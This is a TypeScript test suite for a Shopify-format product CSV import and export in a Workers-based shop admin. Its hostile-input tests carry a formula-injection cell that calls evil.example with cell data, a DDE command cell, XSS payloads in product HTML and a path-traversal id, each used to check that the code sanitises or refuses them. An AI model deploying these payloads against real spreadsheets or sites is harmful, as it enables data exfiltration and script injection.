import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { SHOPIFY_COLUMNS } from "../../src/catalog/shopify-columns";
import { parseCsv } from "../../src/platform/csv";
import sample from "../catalog-io/fixtures/shopify-product-template.csv?raw";
import { as } from "../support/admin";
import { auditRowsAfter, lastAuditId } from "../support/audit";
import { ORIGIN, request } from "../support/http";

type Cells = Partial<Record<(typeof SHOPIFY_COLUMNS)[number], string>>;

interface Report {
  dryRun: boolean;
  rows: number;
  products: { created: number; updated: number; unchanged: number };
  variants: { created: number; updated: number; unchanged: number };
  refused: { line: number; handle: string | null; reason: string }[];
  images: { stored: number; failed: { line: number; url: string; reason: string }[] };
}

function csvOf(rows: Cells[]): string {
  const quote = (v: string): string => `"${v.replaceAll('"', '""')}"`;
  return [SHOPIFY_COLUMNS.join(","), ...rows.map((r) => SHOPIFY_COLUMNS.map((c) => quote(r[c] ?? "")).join(","))].join("\r\n");
}

async function postCsv(body: string | Uint8Array, query = "", headers: Record<string, string> = {}): Promise<Response> {
  return request(`/api/admin/product-imports${query}`, {
    method: "POST",
    headers: { ...(await as("admin")), origin: ORIGIN, "content-type": "text/csv", ...headers },
    body,
  });
}

async function importCsv(body: string, query = ""): Promise<Report> {
  const res = await postCsv(body, query);
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()) as Report;
}

async function exportCsv(): Promise<string> {
  const res = await request("/api/admin/product-exports", { headers: await as("admin") });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  return res.text();
}

/** Everything an import may write, to prove a refused or repeated import changed nothing. */
async function catalogSnapshot(): Promise<string> {
  const tables = ["products", "product_options", "product_variants", "inventory_ledger"];
  const parts = await Promise.all(tables.map((t) => env.DB.prepare(`SELECT * FROM ${t} ORDER BY rowid`).all()));
  return JSON.stringify(parts.map((p) => p.results));
}

describe("Shopify product CSV import and export", () => {
  it("imports Shopify's published sample with the right product, variant, price, stock and status counts; its export re-imports unchanged", async () => {
    const audit = await lastAuditId();
    const preview = await importCsv(sample, "?dryRun=true");
    expect(preview).toMatchObject({ dryRun: true, rows: 17, products: { created: 3 }, variants: { created: 16 }, refused: [] });
    expect(await env.DB.prepare("SELECT count(*) AS n FROM products WHERE slug LIKE 'example-%'").first("n")).toBe(0);

    const report = await importCsv(sample);
    expect(report).toMatchObject({
      dryRun: false,
      rows: 17,
      products: { created: 3, updated: 0, unchanged: 0 },
      variants: { created: 16, updated: 0 },
      refused: [],
    });
    // Offline, no image can be fetched: each is reported, none is fatal.
    expect(report.images.failed.length).toBeGreaterThan(0);
    expect(report.images.failed[0]!.url).toMatch(/^https:\/\/burst\.shopifycdn\.com\//);

    const statuses = await env.DB.prepare("SELECT slug, status, vendor, product_type, tags FROM products WHERE slug LIKE 'example-%' ORDER BY slug").all();
    expect(statuses.results).toEqual([
      { slug: "example-hat", status: "archived", vendor: "Acme", product_type: "Hat", tags: '["Hat Tag"]' },
      { slug: "example-pants", status: "draft", vendor: "Acme", product_type: "Pants", tags: '["Original","Pants Tag"]' },
      { slug: "example-shirt", status: "active", vendor: "Acme", product_type: "Shirts", tags: '["Made to Order","Shirt Tag"]' },
    ]);
    const variants = await env.DB.prepare(
      "SELECT p.slug, count(*) AS n, sum(v.stock) AS stock, min(v.price_cents) AS low, max(v.price_cents) AS high FROM product_variants v JOIN products p ON p.id = v.product_id WHERE p.slug LIKE 'example-%' GROUP BY p.slug ORDER BY p.slug",
    ).all();
    expect(variants.results).toEqual([
      { slug: "example-hat", n: 1, stock: 50, low: 1799, high: 1799 },
      { slug: "example-pants", n: 3, stock: 45, low: 9500, high: 9500 },
      { slug: "example-shirt", n: 12, stock: 0, low: 2500, high: 2500 },
    ]);
    const ledger = await env.DB.prepare(
      "SELECT reason, count(*) AS n, sum(delta) AS units FROM inventory_ledger WHERE reason = 'import' GROUP BY reason",
    ).first();
    expect(ledger).toEqual({ reason: "import", n: 4, units: 95 }); // pants 20 + 15 + 10, hat 50; the shirts start at 0
    const events = (await auditRowsAfter(audit)).filter((e) => e.action === "product.imported");
    expect(events).toHaveLength(1);

    // The same file again creates nothing new; its export imports unchanged.
    const before = await catalogSnapshot();
    const again = await importCsv(sample);
    expect(again).toMatchObject({ products: { created: 0, updated: 0, unchanged: 3 }, variants: { created: 0, updated: 0, unchanged: 16 }, refused: [] });
    const exported = await exportCsv();
    expect(exported.split("\r\n")[0]).toBe(SHOPIFY_COLUMNS.join(","));
    const reimport = await importCsv(exported);
    expect(reimport).toMatchObject({ products: { created: 0, updated: 0, unchanged: 3 }, variants: { created: 0, updated: 0, unchanged: 16 }, refused: [] });
    expect(await catalogSnapshot()).toBe(before);
    expect(await exportCsv()).toBe(exported);
    // Both directions are audited: one event per import that ran, one per export.
    const trail = (await auditRowsAfter(audit)).map((e) => e.action).filter((a) => a.startsWith("product."));
    expect(trail).toEqual(["product.imported", "product.imported", "product.exported", "product.imported", "product.exported"]);
  });

  it("updates by Handle and SKU: a changed price and stock count update the variant, a new SKU adds one", async () => {
    const rows: Cells[] = [
      {
        Handle: "import-mug",
        Title: "Import Mug",
        "Option1 Name": "Colour",
        "Option1 Value": "Red",
        "Variant SKU": "IMP-MUG-R",
        "Variant Price": "12.00",
        "Variant Inventory Qty": "4",
      },
      { Handle: "import-mug", "Option1 Value": "Blue", "Variant SKU": "IMP-MUG-B", "Variant Price": "12.00", "Variant Inventory Qty": "2" },
    ];
    expect(await importCsv(csvOf(rows))).toMatchObject({ products: { created: 1 }, variants: { created: 2 } });
    rows[0]!["Variant Price"] = "13.50";
    rows[1]!["Variant Inventory Qty"] = "7";
    rows.push({ Handle: "import-mug", "Option1 Value": "Green", "Variant SKU": "IMP-MUG-G", "Variant Price": "12.00" });
    expect(await importCsv(csvOf(rows))).toMatchObject({ products: { unchanged: 1 }, variants: { created: 1, updated: 2, unchanged: 0 } });
    const got = await env.DB.prepare("SELECT sku, price_cents AS price, stock FROM product_variants WHERE sku LIKE 'IMP-MUG-%' ORDER BY sku").all();
    expect(got.results).toEqual([
      { sku: "IMP-MUG-B", price: 1200, stock: 7 },
      { sku: "IMP-MUG-G", price: 1200, stock: 0 },
      { sku: "IMP-MUG-R", price: 1350, stock: 4 },
    ]);
    const options = await env.DB.prepare(
      "SELECT o.\"values\" AS v FROM product_options o JOIN products p ON p.id = o.product_id WHERE p.slug = 'import-mug'",
    ).first("v");
    expect(JSON.parse(options as string)).toEqual(["Red", "Blue", "Green"]);
  });

  it("P13 hostile CSV: negative and non-numeric prices are refused with their lines; the other rows import", async () => {
    const before = await catalogSnapshot();
    const report = await importCsv(
      csvOf([
        { Handle: "neg-price", Title: "Negative", "Variant Price": "-5.00" },
        { Handle: "nan-price", Title: "NaN", "Variant Price": "NaN" },
        { Handle: "exp-price", Title: "Exponent", "Variant Price": "1e9" },
        { Handle: "neg-stock", Title: "Negative stock", "Variant Price": "1.00", "Variant Inventory Qty": "-10" },
        { Handle: "ok-price", Title: "Fine", "Variant Price": "1.00", Status: "draft" },
      ]),
    );
    expect(report.refused.map((r) => r.line)).toEqual([2, 3, 4, 5]);
    expect(report.refused[0]!.reason).toMatch(/negative/);
    expect(report.refused[1]!.reason).toMatch(/not a number/);
    expect(report.products.created).toBe(1);
    const created = await env.DB.prepare("SELECT slug FROM products WHERE slug IN ('neg-price','nan-price','exp-price','neg-stock','ok-price')").all();
    expect(created.results).toEqual([{ slug: "ok-price" }]);
    expect(await catalogSnapshot()).not.toBe(before);
  });

  it("P13 hostile CSV: malformed quoting is a 422 naming the line, and nothing is written or audited", async () => {
    const before = await catalogSnapshot();
    const audit = await lastAuditId();
    const good = csvOf([{ Handle: "quoted-ok", Title: "Fine", "Variant Price": "1.00" }]);
    for (const [text, line] of [
      [`${good}\r\nbroken,"never closed,1.00\r\n`, 3],
      [`${good}\r\nbro"ken,Title,,,,,,,,,,,,,,,,1.00\r\n`, 3],
      [`${good}\r\n"x"y,Title\r\n`, 3],
    ] as const) {
      const res = await postCsv(text);
      expect(res.status).toBe(422);
      const problem = (await res.json()) as { code: string; detail: string };
      expect(problem.code).toBe("csv_malformed");
      expect(problem.detail).toContain(`line ${line}`);
    }
    for (const [body, code] of [
      [new Uint8Array([0x48, 0x61, 0xff, 0x0a]), "csv_malformed"],
      ["just,some,columns\r\n1,2,3\r\n", "csv_not_shopify"],
    ] as const) {
      const res = await postCsv(body);
      expect(res.status).toBe(422);
      expect(((await res.json()) as { code: string }).code).toBe(code);
    }
    expect((await postCsv(good, "", { "content-type": "application/json" })).status).toBe(415);
    expect(await catalogSnapshot()).toBe(before);
    expect((await auditRowsAfter(audit)).filter((e) => e.action === "product.imported")).toEqual([]);
  });

  it("P03 hostile CSV: script in Body (HTML) never reaches the product page; formula cells are neutralised on export", async () => {
    await importCsv(
      csvOf([
        {
          Handle: "hostile-body",
          Title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
          "Body (HTML)": '<p>Nice <b>mug</b></p><script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>',
          Vendor: "@SUM(1+1)*cmd|' /C calc'!A0",
          Tags: "+tag, -tag",
          "Option1 Name": "Size",
          "Option1 Value": "-1",
          "Variant SKU": "\t=cmd",
          "Variant Price": "1.00",
        },
      ]),
    );
    const stored = await env.DB.prepare("SELECT description, name, vendor FROM products WHERE slug = 'hostile-body'").first<{
      description: string;
      name: string;
      vendor: string;
    }>();
    expect(stored!.description).toBe("<p>Nice <b>mug</b></p><a>x</a>");
    expect(stored!.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
    const page = await (await request("/products/hostile-body")).text();
    expect(page).toContain("<p>Nice <b>mug</b></p>");
    expect(page).not.toMatch(/alert\(|onerror|javascript:/);

    const exported = await exportCsv();
    const rows = parseCsv(exported);
    const header = rows[0]!.fields;
    const row = rows.find((r) => r.fields[0] === "hostile-body")!.fields;
    const cell = (name: string): string => row[header.indexOf(name)]!;
    for (const name of ["Title", "Vendor", "Tags", "Option1 Value", "Variant SKU"]) {
      expect(cell(name).startsWith("'"), name).toBe(true);
    }
    // No exported cell anywhere starts a formula.
    for (const r of rows) for (const c of r.fields) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    // And the neutralised export imports back unchanged.
    expect(await importCsv(exported)).toMatchObject({ products: { created: 0, updated: 0 }, variants: { created: 0, updated: 0 }, refused: [] });
  });

  it("P13 hostile CSV: 5,000 rows import within the Worker's limits in one request, and again unchanged", async () => {
    const rows: Cells[] = [];
    for (let p = 0; p < 500; p++) {
      for (let v = 0; v < 10; v++) {
        rows.push({
          Handle: `bulk-${p}`,
          ...(v === 0 ? { Title: `Bulk product ${p}`, "Body (HTML)": `<p>Bulk ${p}</p>`, "Option1 Name": "Size" } : {}),
          "Option1 Value": `S${v}`,
          "Variant SKU": `BULK-${p}-${v}`,
          "Variant Price": `${(p % 90) + 1}.${String(v).padStart(2, "0")}`,
          "Variant Inventory Qty": String(v),
        });
      }
    }
    const csv = csvOf(rows);
    const started = Date.now();
    const report = await importCsv(csv);
    expect(report).toMatchObject({ rows: 5000, products: { created: 500 }, variants: { created: 5000 }, refused: [] });
    expect(await env.DB.prepare("SELECT count(*) AS n FROM product_variants WHERE sku LIKE 'BULK-%'").first("n")).toBe(5000);
    const again = await importCsv(csv);
    expect(again).toMatchObject({ products: { created: 0, updated: 0, unchanged: 500 }, variants: { created: 0, updated: 0, unchanged: 5000 } });
    expect(Date.now() - started).toBeLessThan(60_000);
    // Search finds an imported product by SKU.
    const found = (await (await request("/api/products?q=bulk-42-7")).json()) as { items: { name: string }[] };
    expect(found.items.map((i) => i.name)).toContain("Bulk product 42");
  });

  it("P16 only admins import and export", async () => {
    const before = await catalogSnapshot();
    const csv = csvOf([{ Handle: "support-try", Title: "Nope", "Variant Price": "1.00" }]);
    for (const headers of [{}, await as("support"), await as("customer")]) {
      const res = await request("/api/admin/product-imports", {
        method: "POST",
        headers: { ...headers, origin: ORIGIN, "content-type": "text/csv" },
        body: csv,
      });
      expect([401, 403]).toContain(res.status);
      expect((await request("/api/admin/product-exports", { headers })).status).toBeGreaterThanOrEqual(401);
    }
    expect(await catalogSnapshot()).toBe(before);
  });
});

describe("staff import page", () => {
  it("uploads a CSV, previews the report without changing anything, then imports it", async () => {
    const headers = await as("admin");
    const page = await request("/admin/product-imports", { headers });
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain('href="/api/admin/product-exports"');
    const csv = csvOf([
      { Handle: "page-lamp", Title: "Page Lamp", "Variant SKU": "PAGE-LAMP", "Variant Price": "30.00", "Variant Inventory Qty": "3" },
      { Handle: "page-bad", Title: "Bad", "Variant Price": "-1" },
    ]);
    const form = new FormData();
    form.set("file", new File([csv], "products.csv", { type: "text/csv" }));
    const before = await catalogSnapshot();
    const preview = await request("/admin/product-imports/preview", { method: "POST", headers: { ...headers, origin: ORIGIN }, body: form });
    expect(preview.status).toBe(200);
    const previewHtml = await preview.text();
    expect(previewHtml).toContain("Preview: nothing has changed yet");
    expect(previewHtml).toContain("1 would be created");
    expect(previewHtml).toMatch(/<td>3<\/td><td>page-bad<\/td><td>Variant Price is negative/);
    expect(await catalogSnapshot()).toBe(before);
    const staged = /name="staged" value="([0-9a-f]{32})"/.exec(previewHtml)![1]!;

    // A forged id names no staged file: refused, nothing changes.
    const apply = (id: string, h: Record<string, string>) =>
      request("/admin/product-imports/apply", {
        method: "POST",
        headers: { ...h, origin: ORIGIN, "content-type": "application/x-www-form-urlencoded" },
        body: `staged=${id}`,
      });
    expect((await apply("../../products/x", headers)).status).toBe(404);
    expect(await catalogSnapshot()).toBe(before);

    const done = await apply(staged, headers);
    expect(done.status).toBe(200);
    const doneHtml = await done.text();
    expect(doneHtml).toContain("Imported");
    expect(doneHtml).toContain("Products: 1 created");
    expect(await env.DB.prepare("SELECT stock FROM product_variants WHERE sku = 'PAGE-LAMP'").first("stock")).toBe(3);
    // The staged file is gone: the same preview cannot be imported twice.
    expect((await apply(staged, headers)).status).toBe(404);
  });
});
